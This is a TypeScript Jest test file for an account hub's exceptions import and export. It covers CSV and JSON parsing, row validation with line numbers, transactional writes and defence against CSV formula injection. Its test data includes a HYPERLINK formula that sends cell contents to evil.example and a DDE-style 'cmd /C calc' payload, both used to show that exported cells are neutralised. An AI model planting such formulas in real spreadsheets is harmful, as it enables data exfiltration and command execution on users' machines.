/**
 * `exceptions import|export` on a real hub whose accounts come from the real sync: parsing,
 * all-or-nothing checks with line numbers, one transaction, and the exact round trip.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from '@jest/globals';
import { BOM, exceptionsCsv, exportReferences, exportExceptions, neutralise, unneutralise, writePrivateFile } from '../../src/app/exceptions-export.js';
import { importExceptions, parseImport, readImportFile, type ImportProblem } from '../../src/app/exceptions-import.js';
import { addException, listExceptions } from '../../src/app/exceptions.js';
import { BasishubError } from '../../src/errors.js';
import { FATIMA, JAN, PETRA, TestHub, ZOE } from '../helpers/hub.js';

const D1 = '2026-03-01T02:00:00.000Z';
const D2 = '2026-03-02T02:00:00.000Z';
const DAY2 = '2026-03-02T10:00:00.000Z';
const DAY3 = '2026-03-03T10:00:00.000Z';

let hub: TestHub;
afterEach(() => hub?.close());

/** Jan, Zoë and Fatima active and source-linked; Petra deleted by the sync of day 2. */
async function foundation(): Promise<TestHub> {
  hub = new TestHub();
  await hub.sync(D1, [JAN, ZOE, FATIMA, PETRA]);
  await hub.sync(D2, [JAN, ZOE, FATIMA]);
  return hub;
}

function failure(fn: () => unknown): BasishubError {
  try {
    fn();
  } catch (err) {
    if (err instanceof BasishubError) return err;
    throw err;
  }
  throw new Error('expected a BasishubError');
}

function problems(err: BasishubError): ImportProblem[] {
  return (err.details as { problems: ImportProblem[] }).problems;
}

/** What the hub holds, to show that nothing was written. */
function snapshot(h: TestHub) {
  return { revision: h.store.revision(), audit: h.store.auditEntries({}), list: h.store.exceptions() };
}

describe('formula neutralising', () => {
  it('prefixes a quote to cells that a spreadsheet would run, and unneutralise is its exact inverse', () => {
    expect(neutralise('=HYPERLINK("http://x","klik")')).toBe(`'=HYPERLINK("http://x","klik")`);
    expect(neutralise('+31 6 12345678')).toBe("'+31 6 12345678");
    expect(neutralise('-5 dagen')).toBe("'-5 dagen");
    expect(neutralise('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(neutralise('\tcmd')).toBe("'\tcmd");
    expect(neutralise('\rcmd')).toBe("'\rcmd");
    expect(neutralise('Invalpool')).toBe('Invalpool');
    expect(neutralise("'s-Hertogenbosch")).toBe("'s-Hertogenbosch");
    expect(neutralise("'=already")).toBe("''=already");
    for (const s of ['', 'a', '=1', "'=1", "''=1", "'", "'a", '-', "'-", 'x=1', ' =1', '@', "'@x", '\t', "'\t"]) {
      expect(unneutralise(neutralise(s))).toBe(s);
    }
  });
});

describe('exceptions export', () => {
  it('writes CSV for Excel: BOM, the columns, CRLF, quoting, neutralised cells; ";" on request', async () => {
    await foundation();
    addException(hub.at(DAY2), JAN.email, { reason: '=1+1', until: '2026-12-31' });
    addException(hub.at(DAY2), ZOE.email, { reason: 'Verlof; terug "na" de zomer,\nmet een tweede regel' });
    const list = listExceptions(hub.at(DAY2));
    const refs = exportReferences(hub.at(DAY2), list);
    const csv = exceptionsCsv(list, refs);
    expect(csv.startsWith(BOM + 'user,reason,until,email,displayName,createdAt,createdBy,daysListed,offered\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const lines = csv.slice(1).split('\r\n');
    // The user column names the account by source:externalId, which a new hub resolves too.
    expect(lines[1]).toBe(`hr:${JAN.id},'=1+1,2026-12-31,${JAN.email},Jan Vries,${DAY2},tester,0,yes`);
    expect(lines[2]).toBe(`hr:${ZOE.id},"Verlof; terug ""na"" de zomer,\nmet een tweede regel",,${ZOE.email},Zoë Dijk,${DAY2},tester,0,yes`);
    const semi = exceptionsCsv(list, refs, ';');
    expect(semi.split('\r\n')[0]).toBe(BOM + 'user;reason;until;email;displayName;createdAt;createdBy;daysListed;offered');
    expect(semi.split('\r\n')[1]).toBe(`hr:${JAN.id};'=1+1;2026-12-31;${JAN.email};Jan Vries;${DAY2};tester;0;yes`);
  });

  it('JSON is the array of ExceptionView; an empty list is a header only', async () => {
    await foundation();
    expect(exportExceptions(hub.at(DAY2), { format: 'csv' }).content).toBe(
      BOM + 'user,reason,until,email,displayName,createdAt,createdBy,daysListed,offered\r\n',
    );
    addException(hub.at(DAY2), JAN.email, { reason: 'Interim' });
    const r = exportExceptions(hub.at(DAY2), { format: 'json' });
    const [only] = listExceptions(hub.at(DAY2));
    expect(JSON.parse(r.content)).toEqual([{ ...only, user: { ...only!.user, reference: `hr:${JAN.id}` } }]);
    expect(r.entries).toBe(1);
  });

  it('writes the file readable by its owner only, also over an existing file, and never over the hub', async () => {
    await foundation();
    const file = hub.write('list.csv', 'old');
    fs.chmodSync(file, 0o644);
    writePrivateFile(hub.at(DAY2), file, 'new');
    expect(fs.readFileSync(file, 'utf8')).toBe('new');
    expect(fs.statSync(file).mode & 0o777).toBe(0o600);
    expect(fs.readdirSync(hub.dir).filter((f) => f.endsWith('.tmp'))).toEqual([]);
    const before = fs.readFileSync(hub.dbPath);
    expect(failure(() => writePrivateFile(hub.at(DAY2), hub.dbPath, 'x')).code).toBe('USAGE');
    expect(fs.readFileSync(hub.dbPath).equals(before)).toBe(true);
    expect(failure(() => writePrivateFile(hub.at(DAY2), path.join(hub.dir, 'no', 'such', 'dir.csv'), 'x')).code).toBe('USAGE');
  });
});

describe('reading an import file', () => {
  it('detects the delimiter from the header, as the export readers do', () => {
    const delimiter = (text: string) => parseImport('list.csv', Buffer.from(text)).delimiter;
    expect(delimiter('user,reason,until\n1;2')).toBe(',');
    expect(delimiter('user;reason;until\n1,2,3,4')).toBe(';');
    expect(delimiter('user;"reason, why";reason;until\n')).toBe(';');
    expect(delimiter(BOM + 'user;reason\r\n5;x')).toBe(';');
    expect(delimiter('user\treason\n5\tVerlof')).toBe('\t');
    expect(() => delimiter('user')).toThrow(/lacks the column "reason"/);
  });

  it('gives each row its physical line: BOM, CRLF, quoted line breaks and blank lines counted', () => {
    const text = BOM + 'User;REASON;Until\r\n1;"twee\r\nregels";\r\n\r\n2;x;2026-12-31\r\n;;\r\n3;"drie\nregels\nlang";\r\n4;y;';
    const f = parseImport('list.csv', Buffer.from(text));
    expect(f).toMatchObject({ format: 'csv', delimiter: ';' });
    expect(f.rows.map((r) => [r.line, r.user, r.reason, r.until])).toEqual([
      [2, '1', 'twee\r\nregels', ''],
      [5, '2', 'x', '2026-12-31'],
      [7, '3', 'drie\nregels\nlang', ''],
      [10, '4', 'y', ''],
    ]);
  });

  it('ignores other columns, strips the neutralising quote, and knows when there is no until column', () => {
    const f = parseImport('list.csv', Buffer.from("email,user,reason,offered\nx@y,5,'=2+2,yes\n"));
    expect(f.rows).toEqual([{ line: 2, user: '5', reason: '=2+2', until: undefined }]);
  });

  it('flags a row with more fields than the header (an unquoted delimiter in the reason)', () => {
    const f = parseImport('list.csv', Buffer.from('user,reason,until\n5,Verlof, terug in juni,\n6,ok\n'));
    expect(f.rows[0]!.problem).toMatch(/4 fields where the header has 3/);
    expect(f.rows[1]).toEqual({ line: 3, user: '6', reason: 'ok', until: '' });
  });

  it('refuses files it cannot read as a whole, naming the problem', () => {
    const bad = (name: string, content: string | Buffer) => failure(() => parseImport(name, Buffer.isBuffer(content) ? content : Buffer.from(content)));
    expect(bad('a.csv', '').message).toMatch(/empty/);
    expect(bad('a.csv', BOM + '\r\n').message).toMatch(/empty/);
    expect(bad('a.csv', 'email,reason\nx,y').message).toMatch(/lacks the column "user"/);
    expect(bad('a.csv', 'user;until\n1;2026-01-01').message).toMatch(/lacks the column "reason"/);
    expect(bad('a.csv', 'user,reason,User\n1,2,3').message).toMatch(/"user" 2 times/);
    expect(bad('a.csv', 'user,reason\n1,"open\n').message).toMatch(/^a\.csv:\d+: not a readable CSV/);
    expect(bad('a.csv', Buffer.from([0x75, 0x73, 0x65, 0x72, 0x2c, 0x72, 0x65, 0x61, 0x73, 0x6f, 0x6e, 0x0a, 0x31, 0x2c, 0xe9, 0x0a])).message).toMatch(
      /not UTF-8/,
    );
    expect(bad('a.json', '[{"user": 1,').message).toMatch(/not valid JSON/);
    expect(bad('a.json', '{"user": 1, "reason": "x"}').message).toMatch(/array of objects/);
    expect(failure(() => readImportFile('/no/such/file.csv')).message).toMatch(/No file/);
    for (const e of [bad('a.csv', ''), failure(() => readImportFile('/no/such/file.csv'))]) expect(e.code).toBe('USAGE');
  });

  it('reads JSON: an array of objects, keys in any case, user as a reference, an id or an exported user object', () => {
    const f = parseImport(
      'list.json',
      Buffer.from(
        JSON.stringify([
          { User: 'hr:1', Reason: 'a', UNTIL: '2026-12-31' },
          { user: 7, reason: 'b', until: null },
          { user: { id: 8, email: 'x' }, reason: 'c' },
          'nonsense',
          { user: true, reason: 5, until: 20261231 },
        ]),
      ),
    );
    expect(f.format).toBe('json');
    expect(f.rows.slice(0, 3)).toEqual([
      { line: 1, user: 'hr:1', reason: 'a', until: '2026-12-31' },
      { line: 2, user: '7', reason: 'b', until: '' },
      { line: 3, user: '8', reason: 'c', until: undefined },
    ]);
    expect(f.rows[3]!.problem).toMatch(/not an object/);
    expect(f.rows[4]!.problem).toMatch(/user must be.*reason must be.*until must be/);
  });
});

describe('exceptions import', () => {
  it('adds new entries, updates listed ones and counts unchanged rows; every write is audited', async () => {
    await foundation();
    addException(hub.at(DAY2), JAN.email, { reason: 'Interim-directeur', until: '2026-06-30' });
    addException(hub.at(DAY2), ZOE.email, { reason: 'Verlof' });
    const file = hub.write(
      'list.csv',
      `user,reason,until\n${JAN.email},Interim-directeur,2026-06-30\nhr:${ZOE.id},Verlof tot de zomer,2026-07-01\nhr:${FATIMA.id},Invalpool,\n`,
    );
    const r = importExceptions(hub.at(DAY3), file);
    expect(r).toMatchObject({ dryRun: false, added: 1, updated: 1, unchanged: 1 });
    expect(r.rows).toEqual([
      { line: 2, user: expect.objectContaining({ id: hub.id(JAN.email), email: JAN.email }), action: 'unchanged' },
      { line: 3, user: expect.objectContaining({ id: hub.id(ZOE.email) }), action: 'update', changed: ['reason', 'until'] },
      { line: 4, user: expect.objectContaining({ id: hub.id(FATIMA.email), displayName: 'Fatima Amrani' }), action: 'add' },
    ]);
    expect(hub.store.exception(hub.id(ZOE.email))).toMatchObject({ reason: 'Verlof tot de zomer', until: '2026-07-01', updatedAt: DAY3, createdAt: DAY2 });
    expect(hub.store.exception(hub.id(FATIMA.email))).toMatchObject({ reason: 'Invalpool', until: null, createdBy: 'tester', createdAt: DAY3 });
    const audit = hub.store.auditEntries({ since: DAY3, order: 'asc' });
    expect(audit.map((e) => [e.action, e.accountId])).toEqual([
      ['exception.edit', hub.id(ZOE.email)],
      ['exception.add', hub.id(FATIMA.email)],
    ]);
    expect(audit[1]!.detail).toBe('put on the exception list (exceptions import list.csv)');
    expect(audit[1]!.reason).toBe('Invalpool');
  });

  it('a dry run reports the same and writes nothing', async () => {
    await foundation();
    addException(hub.at(DAY2), ZOE.email, { reason: 'Verlof' });
    const file = hub.write('list.csv', `user;reason;until\r\nhr:${ZOE.id};Verlof, langer;\r\n${FATIMA.email};Invalpool;2026-12-31\r\n`);
    const before = snapshot(hub);
    const r = importExceptions(hub.at(DAY3), file, { dryRun: true });
    expect(r).toMatchObject({ dryRun: true, added: 1, updated: 1, unchanged: 0 });
    expect(r.rows.map((x) => x.action)).toEqual(['update', 'add']);
    expect(snapshot(hub)).toEqual(before);
  });

  it('checks every row first: all bad rows reported with their line, and nothing written', async () => {
    await foundation();
    addException(hub.at(DAY2), JAN.email, { reason: 'Interim-directeur' });
    const handMade = hub.insertHubAccount('hand@school.nl');
    hub.insertHubAccount('dubbel@school.nl', 'Een');
    hub.insertHubAccount('dubbel@school.nl', 'Twee');
    const file = hub.write(
      'list.csv',
      [
        'user,reason,until', // 1
        `hr:${ZOE.id},Verlof,2026-12-31`, // 2 good
        '999,Onbekend,', // 3 no such account
        'dubbel@school.nl,Twee accounts,', // 4 ambiguous
        `${handMade},Met de hand gemaakt,`, // 5 no source link
        `${PETRA.email},Vertrokken,`, // 6 deleted
        `hr:${FATIMA.id},   ,`, // 7 empty reason
        `hr:${FATIMA.id},Invalpool,2026-02-30`, // 8 not a date (and Fatima a second time)
        `${JAN.email},"Interim, met een komma",2026-01-01`, // 9 in the past
        `hr:${ZOE.id},"Nog eens,\nover twee regels",`, // 10-11 the same account as line 2
        `nosuch:1,Onbekende bron,`, // 12 no such source
        ',Geen gebruiker,', // 13 no user
        `hr:${JAN.id},Te veel,velden,hier`, // 14 too many fields
        `hr:${FATIMA.id},Invalpool,31-12-2026`, // 15 a Dutch date is a date, but Fatima a third time
      ].join('\n') + '\n',
    );
    const before = snapshot(hub);
    for (const dryRun of [false, true]) {
      const err = failure(() => importExceptions(hub.at(DAY3), file, { dryRun }));
      expect(err.code).toBe('USAGE');
      const p = problems(err);
      expect(p.map((x) => x.line)).toEqual([3, 4, 5, 6, 7, 8, 9, 10, 12, 13, 14, 15]);
      const at = (line: number) => p.find((x) => x.line === line)!.message;
      expect(at(3)).toMatch(/No account matches "999"/);
      expect(at(4)).toMatch(/matches 2 accounts/);
      expect(at(5)).toMatch(/has no source link/);
      expect(at(6)).toMatch(/is deleted/);
      expect(at(7)).toMatch(/reason is required/);
      expect(at(8)).toMatch(/until "2026-02-30" is not a date that exists/);
      expect(at(8)).toMatch(/same account as line 7/);
      expect(at(9)).toMatch(/until 2026-01-01 lies in the past/);
      expect(at(10)).toMatch(/same account as line 2/);
      expect(at(12)).toMatch(/No source named "nosuch"/);
      expect(at(13)).toMatch(/no user/);
      expect(at(14)).toMatch(/4 fields where the header has 3/);
      expect(at(15)).toMatch(/same account as line 7/);
      expect(at(15)).not.toMatch(/not a date/);
      expect(p.find((x) => x.line === 5)!.user).toBe(String(handMade));
      expect(err.message).toMatch(/12 rows cannot be imported; nothing was written/);
      expect(err.message).toMatch(/line 3 \(999\): No account matches/);
      expect(snapshot(hub)).toEqual(before);
    }
  });

  it('numbers the elements of a JSON file', async () => {
    await foundation();
    const file = hub.write(
      'list.json',
      JSON.stringify([
        { user: `hr:${ZOE.id}`, reason: 'Verlof' },
        { user: 'nobody@school.nl', reason: 'x' },
        { user: `hr:${FATIMA.id}`, reason: '' },
        { user: ZOE.email, reason: 'Nog eens' },
      ]),
    );
    const err = failure(() => importExceptions(hub.at(DAY3), file));
    expect(problems(err).map((x) => x.line)).toEqual([2, 3, 4]);
    expect(err.message).toMatch(/element 2 \(nobody@school.nl\)/);
    // A second row for an account names the first by its element number too, not as a line.
    expect(problems(err).find((x) => x.line === 4)!.message).toMatch(/the same account as element 1:/);
    expect(hub.store.exceptions()).toEqual([]);
  });

  it('without an until column the end date stays; an empty until removes it', async () => {
    await foundation();
    addException(hub.at(DAY2), JAN.email, { reason: 'Interim', until: '2026-06-30' });
    addException(hub.at(DAY2), ZOE.email, { reason: 'Verlof', until: '2026-06-30' });
    const keep = importExceptions(hub.at(DAY3), hub.write('a.csv', `user,reason\nhr:${JAN.id},Interim\n`));
    expect(keep.unchanged).toBe(1);
    expect(hub.store.exception(hub.id(JAN.email))!.until).toBe('2026-06-30');
    const clear = importExceptions(hub.at(DAY3), hub.write('b.csv', `user,reason,until\nhr:${ZOE.id},Verlof,\n`));
    expect(clear.rows[0]).toMatchObject({ action: 'update', changed: ['until'] });
    expect(hub.store.exception(hub.id(ZOE.email))!.until).toBeNull();
  });

  it('an entry whose end date already passed may come back unchanged, but no entry gets a new date in the past', async () => {
    await foundation();
    addException(hub.at(DAY2), JAN.email, { reason: 'Interim', until: '2026-03-02' });
    const later = hub.at('2026-03-05T10:00:00.000Z');
    expect(importExceptions(later, hub.write('a.csv', `user,reason,until\nhr:${JAN.id},Interim,2026-03-02\n`)).unchanged).toBe(1);
    expect(importExceptions(later, hub.write('b.csv', `user,reason,until\nhr:${JAN.id},Interim langer,2026-03-02\n`)).updated).toBe(1);
    const err = failure(() => importExceptions(later, hub.write('c.csv', `user,reason,until\nhr:${JAN.id},Interim,2026-03-03\n`)));
    expect(problems(err)[0]!.message).toMatch(/lies in the past/);
  });

  it('writes all rows in one transaction: a failure halfway leaves the hub as it was', async () => {
    await foundation();
    const file = hub.write('list.csv', `user,reason,until\nhr:${JAN.id},Interim,\nhr:${ZOE.id},Verlof,\nhr:${FATIMA.id},Invalpool,\n`);
    const before = snapshot(hub);
    const store = hub.store as unknown as { saveException: (e: unknown) => void };
    const real = store.saveException.bind(hub.store);
    let calls = 0;
    store.saveException = (e) => {
      if (++calls === 3) throw new Error('disk full');
      real(e);
    };
    try {
      expect(() => importExceptions(hub.at(DAY3), file)).toThrow('disk full');
    } finally {
      store.saveException = real;
    }
    expect(calls).toBe(3);
    expect(snapshot(hub)).toEqual(before);
  });
});

describe('export, then import of the same file', () => {
  const reasons = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    '+31 6 1234 5678 bellen',
    '-5 dagen na einde contract',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "'=al met een quote",
    'Verlof; "terug" na de zomer, misschien\r\nnieuwe regel',
  ];

  async function listed(): Promise<void> {
    await foundation();
    addException(hub.at(DAY2), JAN.email, { reason: reasons[0]!, until: '2026-12-31' });
    addException(hub.at(DAY2), ZOE.email, { reason: reasons[5]! });
    addException(hub.at(DAY2), FATIMA.email, { reason: reasons[1]!, until: '2026-03-02' }); // past its end date on day 3, no sync yet
  }

  for (const [name, opts] of [
    ['CSV with ","', { format: 'csv', delimiter: ',' }],
    ['CSV with ";"', { format: 'csv', delimiter: ';' }],
    ['JSON', { format: 'json' }],
  ] as const) {
    it(`changes nothing: ${name}`, async () => {
      await listed();
      const ctx = hub.at(DAY3);
      const out = exportExceptions(ctx, opts);
      const file = writePrivateFile(ctx, path.join(hub.dir, `export.${opts.format}`), out.content);
      const before = snapshot(hub);
      const r = importExceptions(ctx, file);
      expect(r).toMatchObject({ added: 0, updated: 0, unchanged: 3 });
      expect(snapshot(hub)).toEqual(before);
    });
  }

  it('keeps every formula-like reason exactly', async () => {
    await foundation();
    const people = [JAN, ZOE, FATIMA];
    for (let i = 0; i < 3; i++) addException(hub.at(DAY2), people[i]!.email, { reason: reasons[i + 2]! });
    const ctx = hub.at(DAY3);
    const csv = exportExceptions(ctx, { format: 'csv', delimiter: ';' }).content;
    for (const cell of csv
      .split('\r\n')
      .slice(1, -1)
      .map((l) => l.split(';')[1]!))
      expect(cell.replace(/^"/, '').startsWith("'")).toBe(true);
    const file = writePrivateFile(ctx, path.join(hub.dir, 'export.csv'), csv);
    const before = hub.store.exceptions().map((e) => e.reason);
    expect(importExceptions(ctx, file).unchanged).toBe(3);
    expect(hub.store.exceptions().map((e) => e.reason)).toEqual(before);
    expect(before.sort()).toEqual(reasons.slice(2, 5).sort());
  });
});
